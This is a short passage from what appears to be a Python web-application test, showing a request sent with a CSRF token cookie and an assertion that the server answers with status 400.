        HTTP_COOKIE=f"csrftoken={SIGN_IN_TOKEN}",
    )
    assert response.status_code == 400
